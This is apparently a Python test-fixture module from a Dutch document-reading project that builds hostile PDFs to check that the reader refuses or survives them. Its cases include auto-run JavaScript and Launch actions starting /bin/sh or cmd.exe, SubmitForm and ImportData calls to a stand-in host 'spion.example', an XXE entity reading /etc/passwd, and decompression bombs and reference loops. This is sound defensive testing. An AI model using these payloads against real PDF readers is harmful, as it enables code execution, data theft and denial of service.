"""Hostile PDFs: actions, references, bombs, rings, encryption, damage."""

import zlib

from hostile.case import Taken, of_kind
from readers import make_files as make
from readers.make_files import raw_pdf, stream
from readers.test_bad_files import (
    cut_before_pages,
    many_pages,
    page_tree_loop,
    sized,
    without_xref,
)

from kanttekening.domain.errors import RefusalCode

ENCRYPTED, DAMAGED, TOO_BIG, EMPTY = (
    RefusalCode.ENCRYPTED,
    RefusalCode.DAMAGED,
    RefusalCode.TOO_BIG,
    RefusalCode.EMPTY,
)
WORDS = Taken("Geachte raad")
SHOW = b"BT /A 12 Tf 72 700 Td (Geachte raad) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(
    content=SHOW,
    *more,
    page=b"",
    catalog=b"",
    resources=b"",
    entries=b"",
    trailer=b"",
    packed=False,
):
    """One page that greets the council; ``more`` objects begin at number 6."""
    data = raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</Font<</A 5 0 R>>%s>>%s>>" % (resources, page),
            stream(content, entries, packed=packed),
            FONT,
            *more,
        ]
    )
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R" + trailer)


def action(body):
    return lambda: pdf(catalog=b"/OpenAction<<%s>>" % body)


def linked(body):
    """The words lead somewhere."""
    spot = b"/Annots[<</Type/Annot/Subtype/Link/Rect[70 690 300 720]/A<<%s>>>>]" % body
    return lambda: pdf(page=spot)


def annotated(body):
    return lambda: pdf(page=b"/Annots[<</Type/Annot/Rect[70 690 300 720]%s>>]" % body)


def packed_twice(size):
    return zlib.compress(zlib.compress(b" " * size, 9), 9)


def flate_bomb():
    """Sixty-four megabytes of spaces before the words, in a few hundred bytes."""
    inner = zlib.compressobj(9)
    body = b"".join(inner.compress(b" " * (1 << 20)) for _ in range(64))
    body += inner.compress(SHOW) + inner.flush()
    return pdf(zlib.compress(body, 9), entries=b"/Filter[/FlateDecode/FlateDecode]")


def picture_bomb():
    body = zlib.compress(zlib.compress(bytes(1 << 26), 9), 9)
    image = stream(
        body,
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
        b"/ColorSpace/DeviceGray/Filter[/FlateDecode/FlateDecode]",
    )
    return pdf(SHOW + b" q 500 0 0 500 0 0 cm /I Do Q", image, resources=b"/XObject<</I 6 0 R>>")


def form(content, resources=b""):
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<<%s>>" % resources
    return stream(content, entries)


def xref_ring():
    data = pdf()
    at = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def highlights(count):
    one = b"<</Type/Annot/Subtype/Highlight/Rect[0 0 9 9]/QuadPoints[0 9 9 9 0 0 9 0]>>"
    return pdf(page=b"/Annots[%s]" % (one * count))


def pubsec():
    return pdf(trailer=b"/Encrypt<</Filter/Adobe.PubSec/V 4/SubFilter/adbe.pkcs7.s5>>/ID[<00><00>]")


def ring(start, *objects):
    return lambda: pdf(SHOW, *objects, catalog=start)


PDFS = (
    *of_kind(
        "act by itself",
        ("script bij openen.pdf", WORDS, action(b"/S/JavaScript/JS(app.launchURL\\('x'\\))")),
        ("programma starten.pdf", WORDS, action(b"/S/Launch/F(/bin/sh)")),
        ("windows-programma.pdf", WORDS, action(b"/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>")),
        ("gegevens halen.pdf", WORDS, action(b"/S/ImportData/F(//spion.example/x.fdf)")),
        ("formulier sturen.pdf", WORDS, action(b"/S/SubmitForm/F(http://spion.example/)")),
        ("naar ingesloten.pdf", WORDS, action(b"/S/GoToE/T<</R/C/N(x)>>")),
        (
            "bij elke bladzijde.pdf",
            WORDS,
            lambda: pdf(page=b"/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
        ),
        (
            "scripts bij naam.pdf",
            WORDS,
            lambda: pdf(
                catalog=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>"
            ),
        ),
        ("geluid van ver.pdf", WORDS, annotated(b"/Subtype/Movie/Movie<</F(http://spion.example/)>>")),
        (
            "ingesloten programma.pdf",
            WORDS,
            lambda: pdf(
                SHOW,
                stream(b"MZ\x90\x00", b"/Type/EmbeddedFile"),
                catalog=b"/Names<</EmbeddedFiles<</Names[(x.exe)<</F(x.exe)/EF<</F 6 0 R>>>>]>>>>",
            ),
        ),
        (
            "xfa met entiteit.pdf",
            WORDS,
            lambda: pdf(
                SHOW,
                stream(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
                catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>",
            ),
        ),
    ),
    *of_kind(
        "lead elsewhere",
        (
            "koppeling naar web.pdf",
            Taken("Geachte raad", links=("https://vng.nl/",)),
            linked(b"/S/URI/URI(https://vng.nl/)"),
        ),
        ("koppeling naar bestand.pdf", WORDS, linked(b"/S/URI/URI(file:///etc/passwd)")),
        ("koppeling met script.pdf", WORDS, linked(b"/S/URI/URI(javascript:alert\\(1\\))")),
        ("koppeling naar deling.pdf", WORDS, linked(b"/S/URI/URI(\\\\\\\\spion\\\\deling)")),
        ("ander document.pdf", WORDS, linked(b"/S/GoToR/F(//spion/deling/x.pdf)/D[0/Fit]")),
        ("koppeling die start.pdf", WORDS, linked(b"/S/Launch/F(calc.exe)")),
    ),
    *of_kind(
        "pull in from outside",
        (
            "inhoud van buiten.pdf",
            EMPTY,
            lambda: pdf(b"", entries=b"/F(/etc/passwd)"),
        ),
        (
            "plaat van buiten.pdf",
            WORDS,
            lambda: pdf(
                SHOW + b" /I Do",
                stream(
                    b"",
                    b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8"
                    b"/ColorSpace/DeviceGray/F<</FS/URL/F(http://spion.example/a.png)>>",
                ),
                resources=b"/XObject<</I 6 0 R>>",
            ),
        ),
        (
            "bladzijde van ver.pdf",
            WORDS,
            lambda: pdf(
                SHOW + b" /I Do",
                stream(
                    b"",
                    b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
                    b"/Ref<</F(http://spion.example/x.pdf)/Page 0>>",
                ),
                resources=b"/XObject<</I 6 0 R>>",
            ),
        ),
    ),
    *of_kind(
        "take all memory or time",
        ("64 megabyte spaties.pdf", WORDS, flate_bomb),
        ("plaat van 60 000 bij 60 000.pdf", WORDS, picture_bomb),
        ("vormen die verdubbelen.pdf", DAMAGED, lambda: make.doubling_pdf(30)),
        ("te veel bladzijden.pdf", TOO_BIG, lambda: many_pages(5001)),
        ("20 000 markeringen.pdf", WORDS, lambda: highlights(20_000)),
        ("miljoen haken.pdf", DAMAGED, lambda: pdf(SHOW + b"[" * 1_000_000)),
        ("diepe woordenboeken.pdf", EMPTY, lambda: pdf(page=b"/X" + b"<</X" * 100_000)),
        ("miljoen keer bewaren.pdf", DAMAGED, lambda: pdf(SHOW + b" q" * 1_000_000)),
        ("bladzijde van 35 kilometer.pdf", DAMAGED, lambda: sized(b"0 0 99999999999 842")),
        (
            "letters als wolken.pdf",
            Taken("Gewone bladzijde"),
            lambda: sized(b"0 0 595 842", line=b"1 0 0 99999999999 72 700"),
        ),
    ),
    *of_kind(
        "go round for ever",
        ("kring van bladzijden.pdf", DAMAGED, page_tree_loop),
        ("register dat naar zichzelf wijst.pdf", WORDS, xref_ring),
        ("inhoudsopgave in een kring.pdf", WORDS, ring(
            b"/Outlines 6 0 R", b"<</First 7 0 R/Last 7 0 R>>",
            b"<</Title(a)/Next 7 0 R/First 7 0 R>>",
        )),
        ("namen in een kring.pdf", WORDS, ring(b"/Names<</Dests 6 0 R>>", b"<</Kids[6 0 R]>>")),
        ("vorm die zichzelf tekent.pdf", WORDS, lambda: pdf(
            SHOW + b" /I Do", form(b"/I Do", b"/XObject<</I 6 0 R>>"),
            resources=b"/XObject<</I 6 0 R>>",
        )),
        ("letter die zichzelf tekent.pdf", WORDS, lambda: pdf(
            SHOW + b" BT /B 9 Tf (a) Tj ET",
            b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97"
            b"/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>"
            b"/Resources<</Font<</B 6 0 R>>>>>>",
            stream(b"9 0 d0 BT /B 9 Tf (a) Tj ET"),
            resources=b"/Font<</A 5 0 R/B 6 0 R>>",
        )),
        ("patroon van zichzelf.pdf", DAMAGED, lambda: pdf(
            SHOW + b" /Pattern cs /P scn 0 0 500 500 re f",
            stream(
                b"/Pattern cs /P scn 0 0 9 9 re f",
                b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]"
                b"/XStep 9/YStep 9"
                b"/Resources<</Pattern<</P 6 0 R>>>>",
            ),
            resources=b"/Pattern<</P 6 0 R>>",
        )),
        ("lengte van zichzelf.pdf", WORDS, lambda: pdf().replace(
            b"/Length %d" % len(SHOW), b"/Length 4 0 R"
        )),
    ),
    *of_kind(
        "be locked",
        ("wachtwoord.pdf", ENCRYPTED, lambda: make.protected_pdf(user="geheim")),
        ("eigenaarsslot.pdf", Taken("Een beschermde brief"), make.protected_pdf),
        ("op slot met een certificaat.pdf", ENCRYPTED, pubsec),
        ("onbekend slot.pdf", ENCRYPTED, lambda: pdf(trailer=b"/Encrypt<</Filter/Spion/V 99>>")),
    ),
    *of_kind(
        "be broken",
        ("twee bytes.pdf", DAMAGED, lambda: b"%P"),
        ("alleen wit papier.pdf", EMPTY, lambda: pdf(b"")),
        ("alleen kop.pdf", DAMAGED, lambda: b"%PDF-1.7\n"),
        ("geen bladzijden.pdf", DAMAGED, make.no_pages_pdf),
        ("afgekapt.pdf", DAMAGED, cut_before_pages),
        ("nullen na kop.pdf", DAMAGED, lambda: b"%PDF-1.4\n" + bytes(5000)),
        ("zonder register.pdf", Taken("Dit is een brief."), without_xref),
        ("twee miljard bladzijden.pdf", DAMAGED, lambda: pdf().replace(
            b"/Count 1", b"/Count 2147483647"
        )),
        ("lengte onder nul.pdf", WORDS, lambda: pdf().replace(
            b"/Length %d" % len(SHOW), b"/Length -1"
        )),
    ),
)  # fmt: skip
